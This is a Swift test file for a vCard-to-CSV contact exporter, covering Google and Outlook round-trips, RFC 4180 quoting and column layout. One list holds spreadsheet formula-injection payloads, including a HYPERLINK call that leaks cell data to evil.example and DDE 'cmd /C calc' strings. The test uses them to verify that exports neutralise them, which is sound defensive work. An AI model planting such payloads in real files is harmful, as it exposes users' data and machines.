import ContactCSV
import Foundation
import TestSupport
import Testing
import VCard

/// Cards written as CSV, and read back.
@Suite("Writing contact CSV")
struct WritingTests {
    /// A card with every field both Google formats map.
    static let googleCard = [
        "N:张;伟;;;", "X-PHONETIC-FIRST-NAME:Wei", "X-PHONETIC-MIDDLE-NAME:M", "X-PHONETIC-LAST-NAME:Zhang", "NICKNAME:小张",
        "ORG:北京科技有限公司;研发部", "TITLE:工程师", "BDAY:1990-05-17", "NOTE:第一行\\n\"第二行\"\\, 有逗号", "CATEGORIES:同事,VIP",
        "EMAIL;TYPE=WORK:zhangwei@example.com", "EMAIL;TYPE=HOME:zw@example.org", "item1.EMAIL:x@example.com", "item1.X-ABLABEL:Club",
        "TEL;TYPE=CELL:+86 138 0013 8000", "TEL;TYPE=WORK,FAX:+86 10 8888 8888", "TEL;TYPE=PAGER:1", "TEL;TYPE=OTHER:2",
        "ADR;TYPE=HOME:;;朝阳区建国路 88 号;北京;北京市;100022;中国", "ADR;TYPE=WORK:PO 1;Suite 2;1 Main St;Springfield;IL;62701;USA",
        "URL;TYPE=HOME:https://example.com/zw",
    ]

    /// A card with every field Outlook maps: its e-mail addresses have no labels, its phones and
    /// addresses only the labels of its slots.
    static let outlookCard = [
        "N:Smith;John;Q;Dr.;Jr.", "X-PHONETIC-FIRST-NAME:Jon", "X-PHONETIC-LAST-NAME:Smyth", "NICKNAME:Johnny",
        "ORG:Acme\\, Inc.;Sales", "TITLE:Manager", "BDAY:1980-12-05", "X-GENDER:Male", "NOTE:Says \"hi\"\\, often\\nTwice",
        "CATEGORIES:Friends,Band", "EMAIL:john@example.com", "EMAIL:j@example.org",
        "TEL;TYPE=CELL:555-0100", "TEL;TYPE=HOME:555-0101", "TEL;TYPE=WORK:555-0102", "TEL;TYPE=HOME,FAX:555-0103",
        "ADR;TYPE=WORK:PO 1;Suite 2;1 Main St;Springfield;IL;62701;USA", "ADR;TYPE=HOME:;;2 Elm St;Shelbyville;IL;62565;USA",
        "URL:https://example.com", "URL;TYPE=HOME:https://example.org",
    ]

    static func card(_ lines: [String]) throws -> VCard {
        try VCard(parsing: "BEGIN:VCARD\r\nVERSION:4.0\r\n" + lines.joined(separator: "\r\n") + "\r\nEND:VCARD\r\n")
    }

    static func roundTrip(_ lines: [String], _ format: ContactCSVFormat) throws -> [[String]] {
        let bytes = ContactCSVWriter(format: format).bytes(for: [try card(lines), try card(["FN:Only A Name"])])
        let read = try CSVFixture.cards(in: bytes)
        #expect(read.format == format)
        return read.cards
    }

    @Test("vCard → Google CSV → vCard keeps every mapped field")
    func googleRoundTrip() throws {
        #expect(try Self.roundTrip(Self.googleCard, .googleContacts) == [Self.googleCard, ["N:;Only A Name;;;"]])
    }

    @Test("vCard → older Google CSV → vCard keeps every mapped field, the full name and the gender")
    func googleLegacyRoundTrip() throws {
        let card = ["FN:张伟"] + Self.googleCard.prefix(8) + ["X-GENDER:Female"] + Self.googleCard.dropFirst(8)
        #expect(try Self.roundTrip(card, .googleLegacy) == [card, ["FN:Only A Name"]])
    }

    @Test("vCard → Outlook CSV → vCard keeps every mapped field")
    func outlookRoundTrip() throws {
        #expect(try Self.roundTrip(Self.outlookCard, .outlook) == [Self.outlookCard, ["N:;Only A Name;;;"]])
    }

    @Test("UTF-8 with a byte order mark, CRLF, and RFC 4180 quoting")
    func fileForm() throws {
        let bytes = ContactCSVWriter(format: .outlook).bytes(for: [try Self.card(["N:Smith;John;;;", "NOTE:a \"b\"\\, c\\nd", "ORG:張"])])
        #expect(bytes.starts(with: [0xEF, 0xBB, 0xBF]))
        let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
        let lines = text.components(separatedBy: "\r\n")
        #expect(lines.count == 3 && lines[2].isEmpty)
        #expect(lines[1].hasPrefix("John,,Smith,"))
        #expect(lines[1].contains(",張,"))
        #expect(text.contains(",\"a \"\"b\"\", c\nd\","))
    }

    @Test("Google's numbered groups grow to the contact with the most values")
    func numberedGroups() throws {
        let cards = [try Self.card(["FN:A", "TEL:1", "TEL:2", "TEL:3"]), try Self.card(["FN:B", "EMAIL:b@example.com"])]
        let bytes = ContactCSVWriter(format: .googleContacts).bytes(for: cards)
        let header = String(decoding: bytes.dropFirst(3), as: UTF8.self).components(separatedBy: "\r\n")[0]
        #expect(header.hasPrefix("First Name,Middle Name,Last Name,Phonetic First Name,"))
        #expect(header.contains("Labels,E-mail 1 - Label,E-mail 1 - Value,Phone 1 - Label,Phone 1 - Value,Phone 2 - Label"))
        #expect(header.contains("Phone 3 - Value") && !header.contains("Phone 4") && !header.contains("E-mail 2") && !header.contains("Address 1"))
    }

    @Test("Google's address columns in Google's order")
    func googleAddressColumns() throws {
        let bytes = ContactCSVWriter(format: .googleContacts).bytes(for: [try Self.card(["FN:A", "ADR:;;1 Main St;Springfield;IL;62701;USA"])])
        let lines = String(decoding: bytes.dropFirst(3), as: UTF8.self).components(separatedBy: "\r\n")
        #expect(lines[0].hasSuffix(",Labels,Address 1 - Label,Address 1 - Formatted,Address 1 - Street,Address 1 - City,Address 1 - PO Box,"
            + "Address 1 - Region,Address 1 - Postal Code,Address 1 - Country,Address 1 - Extended Address"))
        #expect(lines[1].hasSuffix(",,\"1 Main St\nSpringfield IL 62701\nUSA\",1 Main St,Springfield,,IL,62701,USA,"))
    }

    @Test("A birthday without a year: Apple's placeholder year is left out for Google, Outlook has no such date")
    func yearlessBirthday() throws {
        let card = try Self.card(["FN:A", "BDAY;X-APPLE-OMIT-YEAR=1604:1604-12-25"])
        #expect(try CSVFixture.cards(in: ContactCSVWriter(format: .googleContacts).bytes(for: [card])).cards == [["N:;A;;;", "BDAY:--12-25"]])
        #expect(try CSVFixture.cards(in: ContactCSVWriter(format: .outlook).bytes(for: [card])).cards == [["N:;A;;;"]])
    }

    @Test("An organisation's card keeps its name out of the person's name columns")
    func organisationOnly() throws {
        let card = try Self.card(["FN:Acme", "ORG:Acme"])
        for format in [ContactCSVFormat.googleContacts, .outlook] {
            #expect(try CSVFixture.cards(in: ContactCSVWriter(format: format).bytes(for: [card])).cards == [["ORG:Acme"]])
        }
    }

    /// Payloads a synced card could carry into a file opened in Excel or WPS.
    static let formulas = [#"=HYPERLINK("http://evil.example/?x="&A1)"#, "=1+1", "-2+3+cmd|' /C calc'!A0",
                           "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "=张三", "'=1+1"]

    @Test("No cell of an export begins like a formula; phone numbers are left alone; an import reads the text back")
    func formulasAreQuoted() throws {
        for format in [ContactCSVFormat.googleContacts, .googleLegacy, .outlook] {
            for formula in Self.formulas {
                let value = formula.replacingOccurrences(of: ",", with: "\\,")
                let lines = ["N:\(value);\(value);;;", "ORG:" + value, "TITLE:" + value, "NOTE:" + value, "ADR;TYPE=HOME:;;\(value);;;;",
                             "CATEGORIES:" + value, "TEL;TYPE=CELL:+86 138 0013 8000", "TEL;TYPE=HOME:-1 (555) 010.0"]
                let bytes = ContactCSVWriter(format: format).bytes(for: [try Self.card(lines)])
                let cells = CSVFixture.cells(of: bytes).dropFirst().flatMap { $0 }
                let formulaLike = cells.filter { cell in
                    cell.first.map { "=+-@".contains($0) } == true && !cell.allSatisfy { "0123456789 ()-./+".contains($0) }
                }
                #expect(formulaLike.isEmpty, "\(format): \(formulaLike)")
                #expect(cells.contains("'" + formula), "\(format): \(formula)")
                #expect(cells.contains("+86 138 0013 8000") && cells.contains("-1 (555) 010.0"), "\(format)")
                let read = try CSVFixture.cards(in: bytes).cards
                for line in ["ORG:" + value, "TITLE:" + value, "NOTE:" + value] {
                    #expect(read.first?.contains(line) == true, "\(format): \(line) not in \(read)")
                }
            }
        }
    }

    @Test("Any text a note holds reads back as it was written, quotes and formula characters included", arguments: 0..<4)
    func formulaGuardRoundTrips(seed: UInt64) throws {
        var generator = SeededGenerator(seed: seed)
        let alphabet = Array("''=+-@ 0123456789()./aZ张")
        for _ in 0..<2_000 {
            let text = String((0..<Int.random(in: 1...6, using: &generator)).map { _ in alphabet.randomElement(using: &generator)! })
                .trimmingCharacters(in: .whitespaces)
            guard !text.isEmpty else { continue }
            let card = VCard(properties: [VCardProperty(name: "VERSION", value: "4.0"), VCardProperty(name: "FN", value: "x"),
                                          VCardProperty(name: "NOTE", value: text)])
            let read = try CSVFixture.cards(in: ContactCSVWriter(format: .googleContacts).bytes(for: [card])).cards
            #expect(read.first?.contains("NOTE:" + text) == true, "\(text): \(read)")
        }
    }
}
